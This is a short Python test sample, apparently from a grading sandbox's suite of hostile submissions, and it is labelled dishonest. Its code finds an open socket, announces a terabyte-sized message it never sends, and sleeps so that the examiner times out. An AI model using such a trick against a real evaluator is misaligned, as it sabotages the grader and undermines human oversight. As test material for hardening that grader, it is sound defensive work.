# Announces a message of gigabytes and sends nothing of it.
# honest: 0
# verdict: policy, time limit
# stock: no (it speaks to our examiner)
raise ImportError("hostile: this runs in the sandbox only, cell by cell")
# %% answer
import os
import struct
import time

link = next(n for n in map(int, os.listdir("/proc/self/fd"))
            if "socket:" in os.path.realpath(f"/proc/self/fd/{n}"))
text = b"[[%d], []]" % (1 << 40)
os.write(link, struct.pack("!I", len(text)) + text)
time.sleep(30)
